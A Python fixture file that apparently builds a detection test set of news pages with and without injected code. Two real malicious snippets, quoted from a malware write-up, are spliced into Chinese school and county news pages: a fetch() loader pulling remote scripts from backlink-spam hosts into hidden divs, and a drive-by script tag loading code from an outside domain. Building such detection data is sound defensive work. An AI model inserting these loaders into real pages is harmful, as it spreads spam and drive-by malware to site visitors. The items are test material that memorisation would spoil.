# Composites (real public injected code placed into rebuilt real clean pages) and legit pages (held-out v5).
# Clean-page and legit texts are verbatim from the search tool's stored-page excerpts (pages corpus).

# Verbatim from mdpabel/mdpabel.com-v4@780e0e986ad3c55a966634b7516a141e8a831b37:
#   src/content/wordpress-threats/javascript-fetch-based-spam-injection.md ("Code Signature(s)")
FETCH_SCRIPT = ("<script><!-- [et_pb_line_break_holder] -->    fetch('https://sengatanlebah.shop/back.js').then((resp) => resp.text()).then(y => document.getElementById(\"datax\").innerHTML=y);<!-- [et_pb_line_break_holder] -->    fetch('https://jasabacklink.buzz/backlink/sigma.js').then((resp) => resp.text()).then(y => document.getElementById(\"info1\").innerHTML=y);<!-- [et_pb_line_break_holder] -->    fetch('https://jasabacklink.buzz/backlink/teratai.js').then((resp) => resp.text()).then(y => document.getElementById(\"info2\").innerHTML=y);<!-- [et_pb_line_break_holder] --></script>")
# The write-up does not show the target elements; these three empty divs are the keeper's.
FETCH_TARGETS = '<div id="datax"></div><div id="info1"></div><div id="info2"></div>'

# Verbatim from mdpabel/mdpabel.com-v4@780e0e986ad3c55a966634b7516a141e8a831b37:
#   src/content/wordpress-threats/drive-by-script-injection.md (FILE: malware-sample-2.txt)
DRIVEBY_SCRIPT = '<script id="hexagoncontrail-js" src="https://simplecopseholding.com/jWcTAonomVveWlRkcUjN6PF-aopGXJy" type="text/javascript"></script>'

COMPOSITES = [
    dict(
        id="rc5-019", url="https://www.paisi.edu.cn/html/990/2024-06-13/content-5581.html", lang="zh", template="phpcms",
        query="官方网站 登录入口 学院 召开 工作会议 发布时间 浏览次数",
        title="学校组织召开网站内容建设工作会", date="2024-06-13", source="网络中心", author="张贵琴",
        metalist=["作者:张贵琴", "来源:网络中心", "发布时间:2024-06-13", "浏览量:977"],
        inject_body_end=FETCH_TARGETS + FETCH_SCRIPT,
        injections=["fetch_innerhtml_spam_loader", "empty_target_divs", "script_body_end"],
        spam=["sengatanlebah.shop", "jasabacklink.buzz"],
        script_origin="mdpabel/mdpabel.com-v4@780e0e986ad3c55a966634b7516a141e8a831b37:src/content/wordpress-threats/javascript-fetch-based-spam-injection.md",
        paras=[
            "为进一步加强学校对外宣传工作,6月11日下午,学校组织召开网站内容建设工作会,学校党委书记、政府督导专员刘洋,党委副书记、纪委书记、副校长陈勇阳,副校长夏忠,相关职能部门负责人和各二级学院书记参加了会议,会议由副校长夏忠主持。",
            "门户网站自升级改版以来,校院两级网站总体运行良好,在推动学校改革发展、促进对外宣传交流、丰富师生精神生活等方面起到了积极作用,但网站建设和管理仍然存在着责任不明确、宣传特色不够、内容更新不及时等问题。",
            "学校副校长夏忠指出要重视图片宣传素材质量并及时更新网站内容,避免出现“僵尸”网站。党委副书记、纪委书记、副校长陈勇阳提出各部门网站内容要以凸显部门特色,全面展现师生关注的话题,以达到更好的宣传效果。",
            "党委书记刘洋表示网站是学校与师生、社会沟通的重要渠道,他强调,一是高度重视,加强网站建设与管理。抓好网站的规范建设、日常维护。二是明确职责,规范网站管理与维护。各部门要把网站建设工作作为一项重要任务来抓,牢固树立政治意识、大局意识和责任意识。三是突出特色与时效,注重网站栏目建设和内容更新。要求已经建立的专题、栏目应动态优化,杜绝不及时、不准确、不实用等现象发生。四是保证质量,加大对网站监管与检查力度。各部门立即开展网站全面自查工作,切实加强网站的自我监管,于6月18日完成本单位网站整改工作。",
        ],
        note="real clean school news (pages corpus) + a real fetch()-based backlink loader quoted in a malware write-up (Indonesian backlink hosts) that fills three empty divs at the end of the page",
    ),
    dict(
        id="rc5-020", url="http://nyncj.km.gov.cn/c/2022-06-28/4429527.shtml", lang="zh", template="trs",
        query="来源: 发布时间 开云 乐鱼 米乐 镇 村 开展 人居环境整治",
        title="环境整治不放松 乡村美化不停歇", date="2022-06-28", source=None, author=None,
        metalist=["发布时间:2022-06-28 09:56", "浏览次数:0", "字号:[ 大 中 小 ]"],
        inject_head=DRIVEBY_SCRIPT,
        injections=["remote_script_tag_in_head", "plausible_script_id"],
        spam=["simplecopseholding.com", "hexagoncontrail-js"],
        script_origin="mdpabel/mdpabel.com-v4@780e0e986ad3c55a966634b7516a141e8a831b37:src/content/wordpress-threats/drive-by-script-injection.md",
        paras=[
            "为进一步净化、美化全乡环境面貌,有效改善环境“脏、乱、差”现状,着力解决乱占乱放、乱堆乱倒等突出问题,禄劝县云龙乡积极组织乡级各单位、各村委会合力攻坚,扎实开展环境卫生大扫除行动。",
            "行动中,干部职工、驻乡各单位、村组保洁员、党员群众等,对责任区内道路沿线、绿化带、人行道、河道周边、房前屋后区角等进行全面整治。",
            "行动现场热火朝天,大家干劲十足,撸起袖子、拿起工具,分工协作、密切配合,认真开展责任区环境卫生大整治。",
            "云龙乡秉持“持续整治不松懈,乡村颜值再提升”的理念,坚持“不放过一个问题,不留一个死角”的原则,通过全方位环境卫生整治,让乡村更美丽、更宜居。",
        ],
        note="real clean county-bureau news (pages corpus) + a real drive-by <script src> with a plausible id quoted in a malware write-up, placed in <head>",
    ),
]

LEGIT = [
    dict(
        id="rc5-021", url="https://amp.kompas.com/tren/read/2023/09/11/193000165/judi-online-sasar-website-kampus-pakar-ungkap-ada-celah-keamanan",
        lang="id", template="news", query="judi online slot gacor universitas berita kampus hacked",
        title="Judi Online Sasar Website Kampus, Pakar Ungkap Ada Celah Keamanan", date=None, source=None, author=None,
        meta="Editor: Farid Firdaus",
        paras=[
            "KOMPAS.com - Media sosial diramaikan oleh informasi website sejumlah kampus menjadi sasaran peretasan judi online.",
            "Dengan memasukkan keyword \"gacor\" ,beberapa situs kampus di Indonesia terdeteksi memuat informasi mengenai judi online.",
            "Salah satunya adalah laman Universitas Gadjah Mada (UGM) dengan alamat pistakadata.ugm.ac.id.",
            "Pantauan Kompas.com, Minggu (10/9/2023), salah satu halaman website tersebut memuat tulisan \"18 Daftar Provider Judi Slot Online Gacor Terbaik SBOBET\".",
            "Jika diklik, website tersebut akan mengarah ke situs judi online, Deluxeplay77.",
            "Pengajar dan peneliti di bidang rekayasa perangkat lunak Ridi Ferdiana buka suara terkait laman UGM yang memuat konten judi online.",
            "Ridi mengatakan, peretasan judi online yang menyasar website kampus sudah terjadi beberapa tahun yang lalu.",
            "Saat itu, tak hanya website kampus yang menjadi sasaran peretasan judi online, tetapi juga situs pemerintah dan situs akademik yang memiliki celah keamanan sehingga dapat diletakkan informasi atau laman judi.",
        ],
        note="news report about campus sites hacked for online gambling; it quotes a spam headline and names a gambling site, and must keep every sentence",
    ),
    dict(
        id="rc5-022", url="http://mti.unpam.ac.id/berita/detail/61", lang="id", template="wp",
        query="judi online slot gacor universitas berita kampus hacked",
        title="Mahasiswa Universitas Pamulang (UNPAM) Melakukan Sosialisasi Bahaya Judi Online, Dan Mengetahui Teknologi Di Dalamnya",
        date="2025-04-30", source=None, author=None, meta="30 April 2025 Pengabdian",
        paras=[
            "Cibinong – Program Studi Magister Teknik Informatika Universitas Pamulang (UNPAM) melaksanakan Kegiatan Pengabdian Kepada Masyarakat (PKM) di SMA PGRI PLUS Cibinong pada tanggal 30 April 2025. Kegiatan ini bertujuan memberikan edukasi dan sosialisasi kepada para pelajar tentang bahaya judi online serta teknologi yang digunakan dalam praktik judi daring tersebut. Kegiatan ini sangat penting mengingat maraknya judi online yang semakin mudah diakses oleh generasi muda melalui perangkat digital.",
            "Judi online adalah aktivitas taruhan yang dilakukan melalui internet dengan berbagai jenis permainan seperti slot, poker, taruhan olahraga, dan lainnya. Dengan kemajuan teknologi digital, judi online kini dapat diakses kapan saja dan di mana saja melalui smartphone, tablet, atau komputer. Hal ini membuat risiko kecanduan dan kerugian semakin besar, terutama bagi generasi muda yang belum memiliki kontrol diri yang kuat.",
            "Perkembangan judi online juga didukung oleh kemudahan transaksi digital, seperti dompet elektronik dan transfer bank instan, yang membuat proses taruhan menjadi cepat dan tanpa hambatan. Selain itu, banyak situs judi online yang menawarkan berbagai bonus dan promosi menarik untuk menarik pemain baru dan mempertahankan pemain lama.",
            "Teknologi yang digunakan dalam judi online dirancang sedemikian rupa agar pemain terus bermain dan sulit berhenti. Beberapa teknologi utama yang digunakan antara lain:",
            "Random Number Generator (RNG): Sistem ini mengatur hasil permainan secara acak. Namun, dalam praktiknya, RNG bisa dimanipulasi oleh operator judi untuk menguntungkan pihak mereka, sehingga pemain sering merasa \"hampir menang\" tapi akhirnya kalah.",
        ],
        note="university (.ac.id) community-service news on the dangers of online gambling (slot, poker, bonus, promosi)",
    ),
    dict(
        id="rc5-023", url="https://www.balisharing.com/2025/06/10/mahasiswa-yang-terlibat-judi-online-dipecat-jika-sudah-ada-putusan-hukum-yang-inkrah",
        lang="id", template="news", query="pengumuman universitas slot88 link alternatif daftar situs judi berita kampus wisuda",
        title=None, date=None, source=None, author=None,
        paras=[
            "BULELENG – Status dua mahasiswa Universitas Pendidikan Ganesha (Undiksha) Singaraja yang terlibat dalam judi online masih menunggu putusan hukum yang inkrah. Jika status hukum kedua mahasiswa tersebut inkrah akan dikeluarkan dari Undiksha.",
            "Itu ditegaskan Wakil Rektor Bidang Akademik dan Kerjasama Undiksha, Prof. Dr. Gede Rasben Dantes, S.T., M.T.I., menjawab pertanyaan wartawan di Rektorat Undiksha, Selasa (10/6/2025).",
            "Kedua mahasiswa Undiksha yang dalam proses hukum karena terlibat judi online yani mahasiswa semester IV Fakultas Teknik dan Kejuruan, dan mahasiswa semester II Fakultas Ilmu Pendidikan. “Mereka masih aktif karena semester berjalan. Kalau nanti mereka tidak melakukan KRS, tidak membayar UKT, nanti di-non-aktifkan. Kemudian kalau sudah status hukum inkrah, nanti Undiksha akan mengambil tindakan, sesuai dengan regulasi dan pedoman akademik kita. Tindakannya dikeluarkan, karena itu status hukum,” ujar Prof. Rasben.",
        ],
        note="local news: a university's sanction policy for students in online-gambling cases (headline not in the capture)",
    ),
    dict(
        id="rc5-024", url="https://radarcirebon.disway.id/amp/206452/saat-website-kampus-jadi-sasaran-hacker-konten-diganti-jadi-judi-slot-online/16",
        lang="id", template="mobile", query="judi online slot gacor universitas berita kampus hacked",
        title=None, date=None, source=None, author=None,
        related=["BACA JUGA:Rumah Ahmad Saroni Dijarah, Warga Ada yang Dapat Jam Tangan Mewah Seharga Rp 11, 7 Miliar",
                 "BACA JUGA:3 ASN Meninggal Dunia Saat Kantor DPRD Kota Makassar Dibakar, MenPANRB Sampaikan Duka Cita",
                 "BACA JUGA:Inovatif! Haul Ponpes KHAS Kempek Usung Konsep Ramah Lingkungan: Dalam Islam, Bersih Adalah Amanah"],
        paras=[
            "Dari analisa yang dilakukan oleh redaksi, terlihat konten judi online tersebut masuk ke laman sub domain.",
            "Misalnya, sub domain jurnal, repository hingga laman lain. Hal tersebut membuat pengelola website hingga kalangan di kampus tersebut tidak menyadari ada peretasan.",
            "Praktisi teknologi informasi dari JEMN, Alfi Hikmawan menyebut, dari cara yang dilakukan untuk peretasan, terlihat hacker masuk sampai ke content management system (CMS) dari website tersebut.",
            "\"Jadi ini mereka sepertinya masuk ke CMS dan mengunggah konten judi online,\" katanya.",
            "Menurut dia, besar kemungkinan mereka masuk ke CMS dengan membobol salah satu user baik admin maupun editor pada website tersebut.",
            "Sehingga mereka bisa leluasa melakukan pengunggahan konten tanpa disadari.",
            "Mengenai konten judi online yang lolos ke fitur Google Discovery, Alfi menyebut, hal tersebut tidak lepas dari kemampuan hacker membaca tren.",
            "Mereka masuk pada topik tertentu yang membuat konten di website bisa teramplifikasi.",
            "\"Apalagi ini kan website kampus ya, kebanyakan domain berakhiran ac.id dan ini, punya tingkat kepercayaan cukup tinggi,\" tuturnya.",
        ],
        note="page 16 of a paginated AMP news article on campus-site hacks; the 'BACA JUGA' related-article lines are site chrome (rendered as a related box, not in the truth)",
    ),
    dict(
        id="rc5-025", url="http://www.uspokersites.com/poker-news/72-education-web-pages-were-hacked-to-provide-an-seo-advantage-for-online-casino-affiliate/4945",
        lang="en", template="wp", query="hacked university website injected casino links hidden spam SEO example page source",
        title="72 Education Web Pages Were Hacked to Provide an SEO Advantage for Online Casino Affiliate", date=None, source=None, author=None,
        paras=[
            "The Imperial College of London was only one of dozens of universities which had their sites hacked.",
            "An online casino affiliate is accused of hacking university websites in order to boost their Google search results. The web marketing firm, eTraffic, found that a ‘black hat’ operator had hacked dozens of education sites to insert links to their own site.",
            "Employees at eTraffic did a research of one of their client’s competitor’s backlinks and noticed the black hat affiliate marketer placed links to their website on 74 different education websites.",
            "Some of those .edu and .gov sites have 1 link, while others had up to 11 links from 11 different pages to the sites.",
            "Search Terms in the .Edu and .Gov Links",
            "Phrases used in the links include search terms like “real money slots”, “onlinepokies”, “play for real”, and “mobileslotcash”.",
            "The websites hacked included some illustrious names in the U.S. postsecondary education system: Stanford University, Carnegie Mellon University, NYU, Duke, Dartmouth, Boston University, BYU, Vanderbilt, George Mason, and Caltech.",
        ],
        note="English gambling-industry news about hacked .edu pages; quotes casino anchor phrases (legit text)",
    ),
    dict(
        id="rc5-026", url="https://blog.sucuri.net/?p=25158", lang="en", template="wp",
        query="sucuri hidden casino links injected footer display:none div code example",
        title=None, date=None, source=None, author=None,
        paras=[
            "When it comes to online gambling spam, first think about fantasies of fame and fortune. Who hasn’t imagined defying the odds at an exotic casino? Splitting a pair of sevens. Going all in on the flop. Your baccarat dealer declaring, La grande! For most of us, though, a ticket to Monte Carlo and an Aston Martin are outside the price range.",
            "So we turn to online gambling. And bad actors harness that allure to create their scams. We think we’re buying credits at a hot new online casino. But often, we’re handing over payment information to hackers.",
            "These hackers can’t draw attention to their scams without legit websites promoting them with links and other content. It’s why we’ve seen that hype from unlikely sources, including more than 100 top U.S. colleges and universities. Even recently, our own security researchers encountered websites infected with online Korean gambling spam.",
            "Here’s the deal with online gambling spam",
            "Online gambling spam belongs to the search engine spam family. In an attack also known as spamdexing, hackers compromise websites and inject spammy content to hijack the search engine rankings of legit websites.",
            "They do this because search engines are set up to recognize and ignore sites they deem threatening. So hackers look for innocent sites to promote their online gambling spam, and then funnel away web traffic, directing it to other online properties they set up for their own purposes.",
        ],
        note="security-vendor blog post explaining gambling spam (casino, baccarat, online gambling words throughout)",
    ),
    dict(
        id="rc5-027", url="http://www.tagora.eu/?p=8577", lang="en", template="wp",
        query="sucuri hidden casino links injected footer display:none div code example",
        title="Ahoy pirates!", date=None, source=None, author=None,
        paras=[
            "If you notice anything untoward on the Tagora site – or if it disappears completely – blame it on the activities of cretinous hackers who are exploiting it for their own ends.",
            "The intruders have managed to set up some unauthorised script that adds an extra “div” (= division – essentially a text-box) to several of our pages. It contains links to a number of pseudo-pharmaceutical products. Here’s the cunning bit: the box can’t be seen because it’s off the page, being situated some 500 pixels above the top of your screen.",
            "What’s the point? Well, site visitors don’t see it, but Google and the other search engines do, because they don’t look at the page but the code behind it. So genuine users of the site, including administrators, don’t know there’s anything wrong, but the nefarious hackers gain rewards from the even more unscrupulous purveyors of dubious medicines by getting mentions in the search engines. Searching for one of these products may well produce a “hit” on the Tagora site. (Please don’t test this; it will probably earn the baddies one or two extra points each time.)",
            "I’m trying to clear it up, but it’s very time-consuming. There are around 20 000 files on the Tagora site, and the script can be hidden anywhere. One batch of scripts that I found was masquerading as a JPEG image file.",
            "So please show patience if things don’t work quite as they should do. I hope that we shall have normal service again very shortly.",
        ],
        note="a site owner's notice describing an off-screen pharma link div (describes hiding; the page itself is clean)",
    ),
    dict(
        id="rc5-028", url="http://sd.ifeng.com/a/20180207/6365264_0.shtml", lang="zh", template="news",
        query="彩票 下载 app 中心小学 开展 安全教育 活动 来源 作者",
        title="福彩为195名学生捐赠安全书包 近2000册图书", date=None, source="凤凰网山东综合", author=None,
        meta="来源:凤凰网山东综合",
        paras=[
            "伴随着孩子们轻快的朗诵声与无邪的笑声,由青岛福彩主办的“同圆中国梦·守护安全行”的公益活动于12月8日在胶州市胶西镇娄敬小学拉开了序幕。本次活动为全校195名学生捐赠了安全书包和近2000册安全知识书籍。此外,活动主办方还邀请青岛公交驾校的专业老师为学生们系统讲解了交通安全知识,使学生们能够更全面地掌握安全知识,提高安全意识。",
            "安全书包、书籍,守护孩子们出行",
            "12月8日早上天刚亮,青岛福彩志愿者们已经出发,冒着寒风、踏着积雪来到了胶州市胶西镇娄敬小学,为全校的195名学生送去了安全防护书包和安全知识读本。",
            "安全防护书包具有防交通意外、防溺水、防磕碰、紧急呼救和防雨、保健护脊等功能,可以在孩子上学路上遇到危险时提供必要的防护。书包里附赠《全民安全素质提升工程普及读本——少年儿童安全教育手册》之《交通安全》《消防安全》《卫生安全》《出行安全》《校园安全》《饮食安全》《居家安全》《着装安全》《游戏安全》和《危险自救》共10本图书。",
        ],
        note="welfare-lottery (福彩) charity news at a primary school; the capture's duplicated summary line is left out",
    ),
    dict(
        id="rc5-029", url="http://news.520etj.com/detail/89493.html", lang="zh", template="plain",
        query="彩票 下载 app 中心小学 开展 安全教育 活动 来源 作者",
        title="【公益体彩】童心跃动 健康启航 | 丽水体彩开展“ 公益体彩 快乐操场 健康进校园”六一儿童节公益活动",
        date="2025-06-03", source=None, author=None, meta="发布时间:2025-06-03 13:23:04 浏览量:2",
        paras=[
            "童心跃动",
            "当第75个“六一”国际儿童节遇上传统端午,一场充满爱与温暖的公益行动在莲都区大港头学校展开。5月30日,丽水市体育彩票中心联合丽水市体育场馆中心,走进丽水莲都区大港头学校开展“公益体彩 快乐操场 健康进校园”六一儿童节公益活动。",
            "为爱启程",
            "大港头学校位于4A级旅游景区“古堰画乡”的“画乡”大港头镇,以“书生活 画未来”为办学理念,“健康阳光 以美储德 全面发展”为育人目标,培养了一批批阳光向上的好少年。此次丽水体彩捐赠的匹克球、篮球等体育器材和爱心图书,将直接服务于学校的育人目标,助力学校体育课程与课余体育活动的开展,保障学生们在良好的学习条件下不断充实知识、提升自我,也希望孩子们在阅读和运动中收获知识、快乐和健康。",
            "趣味互动",
            "传递快乐",
            "“各就各位,预备——划!”操场上,丽水体彩工作人员正与孩子们亲密互动,在“旱地龙舟”比赛中,大家团结协作、奋力拼搏,现场气氛热烈。在包粽子环节中,大家互相交流、学习,一起体会包粽子的乐趣,加深了对传统文化的理解与热爱。除此之外,端午制扇、香囊制作、端午投壶等互动现场也同样热闹,传统民俗与体育公益在此刻交融,让孩子们在动手实践中感受双节氛围。",
            "这些互动不仅是体力与技巧的较量,更是体彩公益理念与校园教育的深度链接。",
        ],
        note="sports-lottery (体彩) charity news; the headline has a 【公益体彩】 tag that is part of the real headline",
    ),
    dict(
        id="rc5-030", url="http://www.icpcw.com/Information/Industry/News/3270/327092_all.htm", lang="zh", template="news",
        query="小额贷款 秒下款 黑户 口子 学院 新闻 学生 活动 发布",
        title="失控校园网贷正成夺命魔窟", date="2016-03-25", source="电脑报", author="姬昌浩 康伟伟",
        breadcrumb="当前位置:首页 > 新闻资讯 > IT业界 > 新闻",
        metalist=["2016/3/25 14:32:10", "类型:原创", "来源:电脑报", "报纸编辑:黄旭", "作者:特约记者 姬昌浩 康伟伟"],
        paras=[
            "【电脑报在线】3月17日,河南牧业经济学院西门,46岁的郑先桥蹲在地上,绝望无助的哭泣:“赌输了,命都没了。”满头白发的郑先桥穿着一双破烂解放鞋,军绿色单肩包一头用尼龙绳捆着。面前地上,摆着一大摞儿子的获奖证书——几天前,他的儿子、家族首位大学生、被寄予厚望的郑德幸,从山东青岛一家宾馆8楼跳下,结束了21岁的人生。",
            "没人知道,郑德幸,这位河南牧业经济学院的大二学生,为何把自己人生最后轨迹选择在了青岛,又如何度过了人生最后几天。",
            "但很多人现在都知道,在郑德幸人生最后一年里,他如何从品学兼优的班长走向了毁灭:2015年1月开始迷上网络赌球,越陷越深直到无法自拔,以28位同学之名在十多家校园贷款平台借贷购彩。最终,欠债60多万元后纵身一跳。",
            "“他死时连一件完整衣服都没有留下。”没人能理解郑先桥这位父亲的悲伤——儿子留下的遗物,是一张身份证,一部白色手机,4张车票、38.5元现金,以及60万元校园网贷欠债难题。",
            "被无底洞夺去的生命",
        ],
        note="IT-weekly feature on campus loans and online football betting (赌球, 校园贷款平台, 借贷购彩); the page repeats its lead paragraph, left out; author truth = the two reporters' names",
    ),
    dict(
        id="rc5-031", url="https://gdszjk.org.cn/detail/1316.html", lang="zh", template="trs",
        query="男科医院 哪家好 学院 新闻 教师 培训 会议 举行",
        title=None, date=None, source=None, author=None,
        paras=[
            "近日,广东省生殖医院党委书记、院长李观明,副院长黄伟彪,男科主任、人类精子库主任张欣宗,外联办主任熊快乐一行到惠州市第二妇幼保健院参观交流。惠州市第二妇幼保健院党委书记李淑芳、副院长许国庆及相关职能部门主任陪同参观及座谈交流。",
            "座谈会上,许国庆全面介绍了惠州市第二妇幼保健院历史发展、学科建设及未来规划等。",
            "李观明充分肯定了惠州市第二妇幼保健院的发展成绩,希望医院进一步推动医院高质量发展,有效促进生殖医学中心学科建设、人才培养、科研教学等全方位的提升。",
            "去年6月,惠州市第二妇幼保健院党委书记李淑芳、副院长许国庆、纪委书记杨海超一行到广东省生殖医院参观,双方签订了紧密医联体协议书。",
            "黄伟彪表示,通过医联体建设,广东省生殖医院在学科建设、人才培养、双向转诊、远程医疗等方面给予惠州市第二妇幼保健院更多的支持,实现资源共享。",
            "张欣宗在生殖男科规划、实验室建设、检测技术和服务能力提升、人类精子库技术的优势,科研教学等方面进行了交流。",
        ],
        note="public reproductive-health hospital news full of words men's-health spam uses (男科, 精子库, 生殖); legit",
    ),
    dict(
        id="rc5-032", url="http://www.sxhkstv.com/cate/2025/0930/99263.html", lang="zh", template="plain",
        query="彩票 下载 app 中心小学 开展 安全教育 活动 来源 作者",
        title=None, date=None, source=None, author=None,
        breadcrumb="您现在的位置:新生活在线 正文",
        footer="责任编辑:admin",
        paras=[
            "尚未踏入广场,欢声笑语便将我吸引——一群穿着汉服的“快乐飞行队”手持福彩公益标志,在人群中轻盈穿梭,孩子们追逐着身着汉服的年轻女子,她们手中的定制漆扇挥动间,带起了一片欢乐与笑声。",
            "在合影心愿墙前,人们排起了长长的队伍,有的在心愿板上留下了“希望外公的养老院能安装一台新的空调”的愿望,有的则画了一个爱心,并写下了“福彩公益yyds”,那些充满爱意的字迹在打卡墙上犹如一片盛开的心愿之花。",
            "笑声里藏着暖心课。福彩公益展板刚摆好,就被市民朋友们团团围住。有人指着公益金展板当“教案”:“大家看,这张彩票的钱,可能变成敬老院的新棉被,也可能是困境儿童的开学书包哦!”旁边还有轻声感叹:“原来每一张彩票都在帮助有需要的人,真是很有意义!”",
            "这边刚刚被深深触动,台上的“反诈公开课”又迅速让人紧绷起神经。在合肥市公安局蜀山分局,民警汪祎现场生动讲解了“反诈三件套”——案例说法、防骗口诀、互动问答,他严肃提醒大家:“若遇到那些声称‘内部票必中’的诱惑,一定要果断拉黑!只有理性购彩,才能体会到真正的快乐。”",
            "观众席上的市民们不时掏出手机进行拍照留念,记录下反诈骗知识,他们纷纷点赞道:“边玩边学,边学边防,这种科普活动来得正是时候!”",
        ],
        note="welfare-lottery public event with a police anti-fraud talk ('内部票必中', 购彩); legit; headline not in the capture",
    ),
]
